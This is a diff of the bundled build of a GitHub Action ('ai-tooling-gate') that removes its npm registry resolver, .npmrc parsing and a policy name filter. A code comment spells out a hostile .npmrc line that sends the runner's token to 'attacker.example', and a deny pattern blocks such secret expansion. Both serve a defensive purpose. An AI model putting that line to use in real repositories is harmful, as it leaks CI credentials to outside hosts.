 /** Renders a report as SARIF 2.1.0. Removed findings are left out: they are no longer in the code. */
@@ -91428,7 +92442,7 @@ function renderSarif(report, options) {
                 },
             ],
             partialFingerprints: {
-                'aiToolingGate/v1': sarif_fingerprint(findingIdentity({ ...f, location: { ...f.location, file } })),
+                'aiToolingGate/v1': fingerprint((0,diff/* findingIdentity */.AZ)({ ...f, location: { ...f.location, file } })),
             },
             ...(f.exception
                 ? {
@@ -91490,7 +92504,7 @@ function renderSarif(report, options) {
                 },
             ],
             partialFingerprints: {
-                'aiToolingGate/v1': sarif_fingerprint([SCAN_ERROR_RULE, file, e.message].join('\u0000')),
+                'aiToolingGate/v1': fingerprint([SCAN_ERROR_RULE, file, e.message].join('\u0000')),
             },
         });
     }
@@ -91547,957 +92561,10 @@ function escapeMd(s) {
 
 // EXTERNAL MODULE: ./src/reporters/summary.ts
 var summary = __nccwpck_require__(39654);
-// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
-var npa = __nccwpck_require__(78056);
-var npa_default = /*#__PURE__*/__nccwpck_require__.n(npa);
-// EXTERNAL MODULE: ./node_modules/semver/index.js
-var action_semver = __nccwpck_require__(62088);
-var semver_default = /*#__PURE__*/__nccwpck_require__.n(action_semver);
-// EXTERNAL MODULE: ./src/util/purl.ts
-var purl = __nccwpck_require__(64059);
-;// CONCATENATED MODULE: ./src/resolver/limited-agent.ts
-const RESPONSE_TOO_LARGE = 'ERESPONSETOOLARGE';
-const COUNT = Symbol('aitg.bytesThisResponse');
-/** An agent for one registry URL that refuses answers over `maxBytes` (headers included). */
-async function limitedAgent(registry, maxBytes, timeoutMs) {
-    const { Agent } = (await Promise.all(/* import() */[__nccwpck_require__.e(799), __nccwpck_require__.e(995)]).then(__nccwpck_require__.t.bind(__nccwpck_require__, 57995, 23)));
-    const { getProxy } = (await __nccwpck_require__.e(/* import() */ 799).then(__nccwpck_require__.t.bind(__nccwpck_require__, 3799, 23)));
-    class BodyLimitedAgent extends Agent {
-        async connect(request, options) {
-            const socket = (await super.connect(request, options));
-            socket[COUNT] = 0;
-            // The HTTP parser reads the socket in flowing mode already; one more listener only counts.
-            socket.on('data', (chunk) => {
-                const seen = (socket[COUNT] ?? 0) + chunk.length;
-                socket[COUNT] = seen;
-                if (seen > maxBytes) {
-                    socket.destroy(Object.assign(new Error(`response over the limit of ${maxBytes} bytes`), {
-                        code: RESPONSE_TOO_LARGE,
-                    }));
-                }
-            });
-            return socket;
-        }
-        addRequest(request, options) {
-            // A kept-alive socket starts each response at zero.
-            request.once('socket', (s) => {
-                s[COUNT] = 0;
-            });
-            super.addRequest(request, options);
-        }
-    }
-    return new BodyLimitedAgent({ timeout: timeoutMs, proxy: getProxy(registry, {}) ?? undefined });
-}
-
-;// CONCATENATED MODULE: ./src/resolver/manifest.ts
-// The manifest an install of a registry spec would pick, with npm's own pieces for exactly this:
-// npm-registry-fetch fetches the packument (auth, proxies and headers as npm sends them) and
-// npm-pick-manifest picks the version (dist-tags, ranges, the `latest` preference). No tarball is
-// ever fetched, nothing is written to disk, no script can run.
-
-/** The abbreviated ("corgi") packument, with the full document as npm's fallback. */
-const CORGI_DOC = 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*';
-const FULL_DOC = 'application/json';
-// Loaded on the first look-up only: runs that never ask a registry do not pay for them.
-let modules = null;
-const load = () => (modules ??= Promise.all([Promise.all(/* import() */[__nccwpck_require__.e(799), __nccwpck_require__.e(706)]).then(__nccwpck_require__.t.bind(__nccwpck_require__, 5706, 23)), __nccwpck_require__.e(/* import() */ 937).then(__nccwpck_require__.t.bind(__nccwpck_require__, 81937, 23))]).then(([f, p]) => ({
-    fetch: f.default,
-    pick: p.default,
-})));
-/**
- * The version `spec` (`name@tag-or-range`) resolves to. Throws what npm throws: `E404`/`E401`/…
- * with `statusCode` for HTTP errors, `ETARGET` when no version matches, `type: 'invalid-json'`.
- */
-async function pickedVersion(spec, options) {
-    const { fetch, pick } = await load();
-    const parsed = npa_default()(spec);
-    const name = parsed.name ?? '';
-    const url = `${options.registry.replace(/\/+$/, '')}/${parsed.escapedName ?? ''}`;
-    const get = async (accept) => {
-        const res = await fetch(url, {
-            ...options.fetchOptions,
-            registry: options.registry,
-            spec: parsed,
-            headers: { accept },
-            integrity: null,
-        });
-        return res.json();
-    };
-    const key = `${name}\0${url}`;
-    let packument = options.packumentCache.get(key);
-    if (!packument) {
-        // A registry that does not serve abbreviated documents answers 404 to them: ask for the full one.
-        packument = get(CORGI_DOC).catch((e) => {
-            if (e.code === 'E404')
-                return get(FULL_DOC);
-            throw e;
-        });
-        options.packumentCache.set(key, packument);
-        // A failed request is not remembered: the caller decides whether to retry.
-        packument.catch(() => options.packumentCache.delete(key));
-    }
-    return pick(await packument, parsed.fetchSpec ?? 'latest', { defaultTag: 'latest' }).version;
-}
-
-;// CONCATENATED MODULE: ./src/resolver/npmrc.ts
-// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
-// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
-// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
-// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
-// a pull request could use.
-
-
-const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';
-/** `.npmrc` files are small; a larger one is not a config file. */
-const MAX_NPMRC_BYTES = 256 * 1024;
-/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
-const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'];
-/**
- * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
- * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
- * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
- * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
- */
-const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;
-const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;
-/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
-function parseNpmrc(text) {
-    const entries = [];
-    const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
-    for (let i = 0; i < lines.length; i++) {
-        const line = lines[i].trim();
-        if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('['))
-            continue;
-        const eq = line.indexOf('=');
-        const key = (eq < 0 ? line : line.slice(0, eq)).trim();
-        let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
-        if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
-            try {
-                const parsed = JSON.parse(value);
-                if (typeof parsed === 'string')
-                    value = parsed;
-            }
-            catch {
-                value = value.slice(1, -1);
-            }
-        }
-        else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
-            value = value.slice(1, -1);
-        }
-        if (key !== '')
-            entries.push({ key, value, line: i + 1 });
-    }
-    return entries;
-}
-/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
-function expand(value, env, project) {
-    let missing = null;
-    let forbidden = null;
-    const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc, name, optional) => {
-        if (esc.length % 2 === 1)
-            return whole.slice(1);
-        if (project && FORBIDDEN_IN_PROJECT.test(name)) {
-            forbidden ??= name;
-            return '';
-        }
-        const v = env[name];
-        if (v === undefined) {
-            if (!optional)
-                missing ??= name;
-            return esc;
-        }
-        return esc + v;
-    });
-    if (forbidden !== null)
-        return { forbidden };
-    if (missing !== null)
-        return { missing };
-    return { value: out };
-}
-/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
-function normalizeRegistry(raw) {
-    let url;
-    try {
-        url = new URL(raw.trim());
-    }
-    catch {
-        return null;
-    }
-    if (url.protocol !== 'http:' && url.protocol !== 'https:')
-        return null;
-    url.hash = '';
-    url.search = '';
-    if (!url.pathname.endsWith('/'))
-        url.pathname += '/';
-    return url.toString();
-}
-/** A registry URL fit for messages: no credentials, query or fragment. */
-function displayRegistry(registry) {
-    try {
-        const url = new URL(registry);
-        url.username = '';
-        url.password = '';
-        url.search = '';
-        url.hash = '';
-        return url.toString();
-    }
-    catch {
-        return '(invalid registry URL)';
-    }
-}
-function readOptional(path) {
-    try {
-        const buf = (0,external_node_fs_.readFileSync)(path);
-        if (buf.length > MAX_NPMRC_BYTES)
-            return null;
-        return buf.toString('utf8');
-    }
-    catch {
-        return null;
-    }
-}
-function envValue(env, name) {
-    const lower = name.toLowerCase();
-    for (const [k, v] of Object.entries(env))
-        if (k.toLowerCase() === lower && v !== undefined)
-            return v;
-    return undefined;
-}
-/**
- * Reads the npm configuration that decides where packages are looked up, in npm's order of
- * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
- * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
- * Never reads the machine's home directory unless `env` names it.
- */
-function loadNpmConfig(options) {
-    const { env } = options;
-    const errors = [];
-    const secrets = [];
-    const scopes = new Map();
-    const auth = new Map();
-    let registry = null;
-    const userPath = envValue(env, 'npm_config_userconfig') ??
-        (env.HOME ? (0,external_node_path_.join)(env.HOME, '.npmrc') : env.USERPROFILE ? (0,external_node_path_.join)(env.USERPROFILE, '.npmrc') : undefined);
-    const projectText = options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional((0,external_node_path_.join)(options.root, '.npmrc'));
-    // Lowest precedence first; later layers overwrite.
-    const layers = [
-        { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
-        { text: projectText, project: true, file: '.npmrc' },
-    ];
-    for (const layer of layers) {
-        if (layer.text === null)
-            continue;
-        for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
-            const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
-            const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
-            if (!isRegistry && !authKey)
-                continue;
-            const expanded = expand(raw, env, layer.project);
-            if ('forbidden' in expanded) {
-                // Only the repository's own file can be hostile; report it so the gate fails closed.
-                errors.push({
-                    file: layer.file,
-                    line,
-                    message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
-                });
-                continue;
-            }
-            if ('missing' in expanded)
-                continue; // npm would send the literal text; sending nothing is safer
-            const value = expanded.value;
-            if (isRegistry) {
-                const url = normalizeRegistry(value);
-                if (url === null) {
-                    if (layer.project)
-                        errors.push({
-                            file: layer.file,
-                            line,
-                            message: `${key} is not an http(s) URL; the setting is ignored`,
-                        });
-                    continue;
-                }
-                if (key === 'registry')
-                    registry = url;
-                else {
-                    const scope = key.slice(0, -':registry'.length).toLowerCase();
-                    if (SCOPE.test(scope))
-                        scopes.set(scope, url);
-                }
-            }
-            else if (authKey && value !== '') {
-                auth.set(key, value);
-                secrets.push(value);
-                if (authKey === '_auth')
-                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
-                if (authKey === '_password')
-                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
-            }
-        }
-    }
-    for (const [k, v] of Object.entries(env)) {
-        if (v === undefined)
-            continue;
-        const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
-        if (m && SCOPE.test(m[1])) {
-            const url = normalizeRegistry(v);
-            if (url)
-                scopes.set(m[1].toLowerCase(), url);
-        }
-    }
-    const envRegistry = envValue(env, 'npm_config_registry');
-    if (envRegistry !== undefined && normalizeRegistry(envRegistry))
-        registry = normalizeRegistry(envRegistry);
-    if (options.registry !== undefined) {
-        const url = normalizeRegistry(options.registry);
-        if (url === null)
-            throw new Error(`registry "${options.registry}" is not an http(s) URL`);
-        registry = url;
-    }
-    for (const url of [registry, ...scopes.values()]) {
-        if (!url)
-            continue;
-        const u = new URL(url);
-        if (u.password)
-            secrets.push(decodeURIComponent(u.password));
-    }
-    return {
-        registry: registry ?? PUBLIC_REGISTRY,
-        scopes,
-        auth,
-        secrets: secrets.filter((s) => s.length >= 4),
-        errors,
-    };
-}
-/** The registry a package name is looked up in. */
-function registryFor(config, name) {
-    if (name.startsWith('@')) {
-        const scope = name.slice(0, name.indexOf('/')).toLowerCase();
-        const url = config.scopes.get(scope);
-        if (url)
-            return url;
-    }
-    return config.registry;
-}
-/** Replaces every known credential in a message (defence in depth: messages are built without them). */
-function scrub(message, secrets) {
-    let out = message;
-    for (const s of secrets)
-        if (out.includes(s))
-            out = out.split(s).join('***');
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/resolver/npm-resolver.ts
-// Resolves unpinned npm specs (`latest`, `^2.1.0`, `*`, nothing at all) to the version an install
-// would get now, by asking the registry the repository is configured for, the way npm does
-// (npm-registry-fetch for the packument, npm-pick-manifest for dist-tags, ranges and the `latest`
-// preference).
-
-
-
-
-
-
-
-const OFFLINE_NOTE = 'offline: not resolved';
-/** Look-ups in a row that get no answer at all from a registry before the rest skip it. */
-const UNREACHABLE_AFTER = 3;
-const MAX_VERSION_LENGTH = 256;
-/**
- * Which look-up an unpinned npm registry component needs, or a reason it cannot have one, or
- * null when the component is not the resolver's (pinned, not npm, not from a registry).
- */
-function registryRequest(c) {
-    if (c.ecosystem !== 'npm' || c.version !== null || c.sourceKind !== 'registry')
-        return null;
-    let written = (c.spec ?? '').trim();
-    // An alias written whole (`npm:@scope/real@^1`): the part after the real name is the spec.
-    if (written.startsWith('npm:')) {
-        try {
-            const alias = npa_default()(written);
-            if (alias.type === 'alias' && alias.subSpec && alias.subSpec.name === c.name)
-                written = alias.subSpec.rawSpec;
-        }
-        catch {
-            return { reason: `spec "${c.spec}" is not a valid npm alias` };
-        }
-    }
-    const spec = written === '' ? 'latest' : written;
-    let parsed;
-    try {
-        parsed = npa_default().resolve(c.name, spec);
-    }
-    catch {
-        return { reason: `"${c.name}@${spec}" is not a valid npm package spec` };
-    }
-    // Only registry specs: anything else (git, file, URL) is not a registry look-up.
-    if (parsed.type !== 'tag' && parsed.type !== 'range' && parsed.type !== 'version') {
-        return { reason: `spec "${spec}" is not a dist-tag or a version range` };
-    }
-    return { name: c.name, spec };
-}
-/** Runs tasks with at most `limit` in flight. */
-function limiter(limit) {
-    let active = 0;
-    const queue = [];
-    const next = () => {
-        if (active >= limit)
-            return;
-        const start = queue.shift();
-        if (start) {
-            active++;
-            start();
-        }
-    };
-    return (task) => new Promise((resolve, reject) => {
-        queue.push(() => {
-            task()
-                .then(resolve, reject)
-                .finally(() => {
-                active--;
-                next();
-            });
-        });
-        next();
-    });
-}
-function failureOf(e) {
-    return typeof e === 'object' && e !== null ? e : {};
-}
-/** No HTTP answer at all: a timeout or a network error. */
-function isUnanswered(f, timedOut) {
-    if (timedOut || f.type === 'request-timeout')
-        return true;
-    if (f.statusCode !== undefined || f.type === 'invalid-json')
-        return false;
-    return (typeof f.code === 'string' && !['ETARGET', 'E404', 'E401', 'E403', RESPONSE_TOO_LARGE].includes(f.code));
-}
-function isRetryable(f, timedOut) {
-    if (timedOut)
-        return true;
-    if (f.statusCode !== undefined)
-        return f.statusCode === 408 || f.statusCode === 429 || f.statusCode >= 500;
-    if (f.code === 'E404' || f.code === 'ETARGET' || f.code === 'E401' || f.code === 'E403')
-        return false;
-    if (f.type === 'invalid-json' || f.code === RESPONSE_TOO_LARGE)
-        return false;
-    // Network errors (ECONNRESET, ECONNREFUSED, EAI_AGAIN, …).
-    return typeof f.code === 'string' && f.code.startsWith('E');
-}
-/** Why a look-up failed, in words that never carry the request's credentials. */
-function npm_resolver_describe(f, timedOut, req, where, attempts, timeoutMs, maxBytes) {
-    const tries = attempts === 1 ? '1 attempt' : `${attempts} attempts`;
-    if (timedOut || f.type === 'request-timeout')
-        return `no answer from ${where} within ${timeoutMs} ms (${tries})`;
-    if (f.code === 'ETARGET')
-        return `no version of ${req.name} matches "${req.spec}" at ${where}`;
-    if (f.code === 'E404' || f.statusCode === 404)
-        return `${req.name} not found at ${where} (HTTP 404)`;
-    if (f.statusCode === 401 || f.statusCode === 403)
-        return `${where} refused the look-up of ${req.name} (HTTP ${f.statusCode}): missing or rejected credentials`;
-    if (f.code === RESPONSE_TOO_LARGE)
-        return `${where} answered ${req.name} with more than ${maxBytes} bytes (AITG_MAX_RESPONSE_BYTES)`;
-    if (f.type === 'invalid-json')
-        return `${where} answered ${req.name} with invalid JSON`;
-    if (f.statusCode !== undefined)
-        return `HTTP ${f.statusCode} from ${where} for ${req.name} (${tries})`;
-    if (typeof f.code === 'string' && /^[A-Z0-9_]{2,40}$/.test(f.code))
-        return `network error ${f.code} reaching ${where} (${tries})`;
-    return `look-up of ${req.name} at ${where} failed (${tries})`;
-}
-const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
-/**
- * Creates the npm resolver stage. Each distinct (name, spec) is looked up once per resolver (its
- * caches and the registry settings last across calls: an audit calls it file by file); failures
- * never throw: the component keeps `version: null` and `versionNote` says why.
- */
-function createNpmResolver(options) {
-    const concurrency = Math.max(1, options.concurrency ?? 8);
-    const timeoutMs = Math.max(1, options.timeoutMs ?? 15_000);
-    const retries = Math.max(0, options.retries ?? 2);
-    const retryDelayMs = Math.max(0, options.retryDelayMs ?? 500);
-    const maxResponseBytes = Math.max(1, options.maxResponseBytes ?? (0,model_limits/* maxResponseBytesFromEnv */.Yb)(options.env));
-    const limit = limiter(concurrency);
-    // One packument request per package per resolver (a run): specs of one package are looked up one after
-    // the other, the first fills the in-memory packument cache and the rest read it; when
-    // the first fails for a reason that is about the package, the rest share that reason.
-    const packumentCache = new Map();
-    const lookups = new Map();
-    const lastOfPackage = new Map();
-    // A registry that answers nothing (down, blackholed) would cost every package the full
-    // timeout and retries; after a few look-ups in a row without an answer the rest skip it.
-    const unanswered = new Map();
-    // One size-bounded agent per registry (keep-alive within a run, proxies from the environment).
-    const agents = new Map();
-    const agentFor = (registry) => {
-        let a = agents.get(registry);
-        if (!a)
-            agents.set(registry, (a = limitedAgent(registry, maxResponseBytes, timeoutMs)));
-        return a;
-    };
-    // The registry settings, read once, on the first look-up; their errors are reported once.
-    let config;
-    return async (components) => {
-        const wanted = components.map(registryRequest);
-        if (!wanted.some((w) => w !== null)) {
-            return { components: [...components], stats: { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 } };
-        }
-        const stats = { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 };
-        let errors = [];
-        if (config === undefined) {
-            config = options.offline
-                ? null
-                : loadNpmConfig({
-                    root: options.root,
-                    env: options.env,
-                    ...(options.registry !== undefined ? { registry: options.registry } : {}),
-                    ...(options.projectNpmrc !== undefined ? { projectNpmrc: options.projectNpmrc } : {}),
-                });
-            errors = config?.errors ?? [];
-        }
-        const settings = config;
-        const lookUp = async (cfg, req) => {
-            const registry = registryFor(cfg, req.name);
-            const agent = await agentFor(registry);
-            const where = displayRegistry(registry);
-            const spec = npa_default().resolve(req.name, req.spec).toString();
-            const down = unanswered.get(registry);
-            if (down && down.inARow >= UNREACHABLE_AFTER) {
-                return {
-                    reason: `skipped: ${where} gave no answer to ${down.inARow} look-ups in a row (last: ${down.last})`,
-                    byPackage: true,
-                };
-            }
-            let attempt = 0;
-            for (;;) {
-                attempt++;
-                stats.attempts++;
-                const controller = new AbortController();
-                let timedOut = false;
-                const timer = setTimeout(() => {
-                    timedOut = true;
-                    controller.abort();
-                }, timeoutMs);
-                try {
-                    const fetchOptions = {
-                        preferOnline: true,
-                        // No `cache`: nothing is written to disk and every run asks the registry afresh.
-                        fetchRetries: 0,
-                        timeout: timeoutMs,
-                        signal: controller.signal,
-                        userAgent: 'ai-tooling-gate',
-                        agent,
-                    };
-                    for (const [k, v] of cfg.auth)
-                        fetchOptions[k] = v;
-                    // The signal aborts the request; the race makes sure nothing waits past the timeout
-                    // even if some layer below does not honour it.
-                    const found = await Promise.race([
-                        pickedVersion(spec, { registry, packumentCache, fetchOptions }),
-                        new Promise((_, reject) => controller.signal.addEventListener('abort', () => reject(Object.assign(new Error('timed out'), { type: 'request-timeout' })))),
-                    ]);
-                    unanswered.delete(registry);
-                    const version = typeof found === 'string' ? found : '';
-                    if (version.length > MAX_VERSION_LENGTH || semver_default().valid(version) === null) {
-                        return { reason: `${where} answered ${req.name} with an invalid version` };
-                    }
-                    return { version, registry: where };
-                }
-                catch (e) {
-                    const f = failureOf(e);
-                    if (attempt <= retries && isRetryable(f, timedOut)) {
-                        clearTimeout(timer);
-                        await sleep(retryDelayMs * 2 ** (attempt - 1));
-                        continue;
-                    }
-                    const reason = npm_resolver_describe(f, timedOut, req, where, attempt, timeoutMs, maxResponseBytes);
-                    if (isUnanswered(f, timedOut)) {
-                        const inARow = (unanswered.get(registry)?.inARow ?? 0) + 1;
-                        unanswered.set(registry, { inARow, last: reason });
-                    }
-                    else
-                        unanswered.delete(registry);
-                    return { reason, byPackage: f.code !== 'ETARGET' };
-                }
-                finally {
-                    clearTimeout(timer);
-                }
-            }
-        };
-        const outcomes = await Promise.all(wanted.map((w) => {
-            if (w === null)
-                return Promise.resolve(null);
-            if ('reason' in w)
-                return Promise.resolve(w);
-            if (settings === null)
-                return Promise.resolve({ reason: OFFLINE_NOTE });
-            const key = `${w.name}@${w.spec}`;
-            let p = lookups.get(key);
-            if (!p) {
-                const cfg = settings;
-                const previous = lastOfPackage.get(w.name) ?? Promise.resolve(null);
-                p = previous.then((before) => {
-                    if (before && 'reason' in before && before.byPackage)
-                        return before;
-                    stats.lookups++;
-                    return limit(() => lookUp(cfg, w)).catch((e) => ({
-                        reason: `look-up of ${w.name} failed: ${e instanceof Error ? e.message : String(e)}`,
-                    }));
-                });
-                lookups.set(key, p);
-                lastOfPackage.set(w.name, p);
-            }
-            return p;
-        }));
-        const secrets = settings?.secrets ?? [];
-        const out = components.map((c, i) => {
-            const outcome = outcomes[i];
-            const w = wanted[i];
-            if (!outcome || !w)
-                return c;
-            if ('version' in outcome && !('reason' in w)) {
-                stats.resolved++;
-                return {
-                    ...c,
-                    version: outcome.version,
-                    purl: (0,purl/* purlFor */.n)(c.ecosystem, c.name, outcome.version),
-                    versionNote: scrub(`resolved "${w.spec}" to ${outcome.version} from ${outcome.registry}`, secrets),
-                };
-            }
-            stats.unresolved++;
-            const reason = 'reason' in outcome ? outcome.reason : '';
-            return {
-                ...c,
-                versionNote: scrub(reason === OFFLINE_NOTE ? OFFLINE_NOTE : `not resolved: ${reason}`, secrets),
-            };
-        });
-        return { components: out, ...(errors.length > 0 ? { errors } : {}), stats };
-    };
-}
-
-;// CONCATENATED MODULE: ./src/resolver/index.ts
-
-
-/** Adapts a resolver to the audit's `resolve` hook: its errors join the scan's errors. */
-function auditResolveHook(resolver) {
-    return async (components, errors) => {
-        const result = await resolver(components);
-        if (result.errors)
-            errors.push(...result.errors);
-        return result.components;
-    };
-}
-
-// EXTERNAL MODULE: ./src/policy/evaluate.ts + 1 modules
-var evaluate = __nccwpck_require__(84813);
-// EXTERNAL MODULE: ./src/policy/names.ts
-var names = __nccwpck_require__(25714);
-// EXTERNAL MODULE: ./src/model/ecosystems.ts
-var ecosystems = __nccwpck_require__(27184);
-;// CONCATENATED MODULE: ./src/policy/relevance.ts
-
-
-const NON_ASCII = /[^\x00-\x7f]/;
-/** Fragments shorter than this are not worth searching for: every lockfile holds them. */
-const MIN_FRAGMENT = 3;
-/**
- * The longest literal fragment of a normalised name or glob that any name it matches contains,
- * in every spelling a lockfile may write it (so split at glob characters, at `/` and `@`, which a
- * URL may %-escape, and at `-`, `_` and `.`, which PEP 503 treats as one); null when no fragment
- * is long enough to narrow anything, or the name is not ASCII.
- */
-function nameFragment(pattern) {
-    // Letter case of non-ASCII letters does not round-trip (İ lowercases to two characters).
-    if (NON_ASCII.test(pattern))
-        return null;
-    let best = '';
-    for (const f of pattern.toLowerCase().split(/[*?/@\-_.]+/))
-        if (f.length > best.length)
-            best = f;
-    return best.length >= MIN_FRAGMENT ? best : null;
-}
-/**
- * The `%XX` escapes a URL-decoding parser could turn into part of one of these fragments: the
- * escape of any character a fragment holds (either letter case), or of any non-ASCII byte (a
- * UTF-8 sequence may decode to a letter that lowercases into one, as the Kelvin sign does).
- */
-function percentEscapesOf(fragments) {
-    const codes = new Set();
-    for (const f of fragments) {
-        for (const ch of f + f.toUpperCase()) {
-            codes.add(ch.charCodeAt(0).toString(16).padStart(2, '0'));
-        }
-    }
-    return new RegExp(`%(?:[89a-f][0-9a-f]|${[...codes].sort().join('|')})`, 'i');
-}
-function relevance_nameFilter(policy, catalog) {
-    const byEcosystem = new Map();
-    let allEcosystems = false;
-    const entry = (e) => {
-        let n = byEcosystem.get(e);
-        if (!n)
-            byEcosystem.set(e, (n = { all: false, exact: new Set(), globs: [] }));
-        return n;
-    };
-    const addName = (e, name) => {
-        const n = entry(e);
-        const normal = (0,names/* normalizeName */.Pc)(e, name);
-        if (normal.includes('*') || normal.includes('?'))
-            n.globs.push(normal);
-        else
-            n.exact.add(normal);
-    };
-    for (const rule of policy.rules) {
-        if (rule.tool !== undefined) {
-            // An unknown tool matches nothing (evaluate skips it the same way).
-            for (const carrier of catalog.tool(rule.tool)?.carriers ?? [])
-                addName(carrier.ecosystem, carrier.package);
-        }
-        else if (rule.package === undefined) {
-            if (rule.ecosystem === undefined)
-                allEcosystems = true;
-            else
-                entry(rule.ecosystem).all = true;
-        }
-        else if (rule.ecosystem === undefined) {
-            // The policy parser requires an ecosystem with a package; a rule built otherwise covers all.
-            for (const e of ecosystems/* ECOSYSTEMS */.S)
-                addName(e, rule.package);
-        }
-        else {
-            addName(rule.ecosystem, rule.package);
-        }
-    }
-    // Per ecosystem, the lowercase fragments to look for; null: the text cannot be narrowed.
-    const fragments = new Map();
-    for (const [e, n] of byEcosystem) {
-        if (n.all) {
-            fragments.set(e, null);
-            continue;
-        }
-        const list = [];
-        let unbounded = false;
-        for (const p of [...n.exact, ...n.globs]) {
-            const f = nameFragment(p);
-            if (f === null)
-                unbounded = true;
-            else
-                list.push(f);
-        }
-        fragments.set(e, unbounded ? null : list);
-    }
-    const searchers = new Map();
-    const searcherFor = (ecosystems) => {
-        if (allEcosystems)
-            return null;
-        const key = [...ecosystems].sort().join(',');
-        if (searchers.has(key))
-            return searchers.get(key) ?? null;
-        const all = new Set();
-        for (const e of ecosystems) {
-            const f = fragments.get(e);
-            if (f === null) {
-                searchers.set(key, null);
-                return null;
-            }
-            for (const x of f ?? [])
-                all.add(x);
-        }
-        if (all.size === 0)
-            return 'none';
-        // A fragment that contains another is implied by it: keep the shorter one only.
-        const kept = [...all].filter((f) => ![...all].some((g) => g !== f && f.includes(g)));
-        const searcher = {
-            names: new RegExp(kept.map(escapeRegExp).join('|'), 'iu'),
-            escapes: percentEscapesOf(kept),
-        };
-        searchers.set(key, searcher);
-        return searcher;
-    };
-    return {
-        mayMatch(ecosystem, name) {
-            if (allEcosystems)
-                return true;
-            const n = byEcosystem.get(ecosystem);
-            if (!n)
-                return false;
-            if (n.all)
-                return true;
-            const normal = (0,names/* normalizeName */.Pc)(ecosystem, name);
-            return n.exact.has(normal) || n.globs.some((g) => (0,names/* globMatches */.mw)(g, normal));
-        },
-        textMayName(text, ecosystems) {
-            const searcher = searcherFor(ecosystems);
-            if (searcher === 'none')
-                return false;
-            if (searcher === null)
-                return true;
-            if (searcher.names.test(text) || hasEscapes(text, searcher.escapes))
-                return true;
-            // The comparison of most ecosystems lowercases names, and toLowerCase turns a few
-            // non-ASCII letters into ASCII ones (the Kelvin sign into `k`): such text is not ruled out.
-            return ecosystems.some(foldsCase) && NON_ASCII.test(text);
-        },
-    };
-}
-/** Whether an ecosystem compares names case-insensitively (lowercases them). */
-function foldsCase(e) {
-    return (0,names/* normalizeName */.Pc)(e, 'A') === 'a';
-}
-/** Escapes a parser could decode into name characters that the raw text does not show. */
-function hasEscapes(text, percentEscapes) {
-    return text.includes('\\') || (text.includes('%') && percentEscapes.test(text));
-}
-function escapeRegExp(s) {
-    return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
-}
-
-// EXTERNAL MODULE: ./src/inventory/reconcile.ts
-var reconcile = __nccwpck_require__(59268);
-;// CONCATENATED MODULE: ./src/gate/scan.ts
-
-
-
-
-
-
-
-
-
-/**
- * Runs the resolver over the components some rule could match by name, and passes the others
- * through: a look-up for a package no rule names can change no verdict, and would only cost time
- * (and fail closed on a private package the policy does not care about).
- */
-async function resolveRelevant(resolve, components, errors, filter) {
-    const relevant = [];
-    components.forEach((c, i) => {
-        if (filter.mayMatch(c.ecosystem, c.name))
-            relevant.push(i);
-    });
-    if (relevant.length === 0)
-        return components;
-    const resolved = await resolve(relevant.map((i) => components[i]), errors);
-    const out = [...components];
-    relevant.forEach((i, k) => (out[i] = resolved[k]));
-    return out;
-}
-/**
- * Audit mode: every component of one tree judged against the policy. The tree is streamed file by
- * file (`inventoryEach`), manifests first: a lockfile's components are judged as they come and let
- * go, and of the lockfiles only the versions of names some manifest declares are remembered, to
- * reconcile the manifests' entries at the end (`reconcileManifests`). The report is the one the
- * whole inventory, reconciled and judged at once, gives (tested over every fixture): the findings
- * in component order, the same count, the same errors.
- */
-async function audit(source, options) {
-    const filter = relevance_nameFilter(options.policy, src_catalog/* catalog */.U$);
-    const evaluator = (0,evaluate/* createEvaluator */.m$)(options.policy, {
-        catalog: src_catalog/* catalog */.U$,
-        ...(options.now ? { now: options.now } : {}),
-        ...(options.pathPrefix ? { pathPrefix: options.pathPrefix } : {}),
-    });
-    const resolverErrors = [];
-    const resolve = options.resolve;
-    // Findings by where their component sits in the whole inventory: its file, its place there.
-    const judged = [];
-    let count = 0;
-    const judge = async (entries) => {
-        let components = entries.map((e) => e.c);
-        if (resolve)
-            components = await resolveRelevant(resolve, components, resolverErrors, filter);
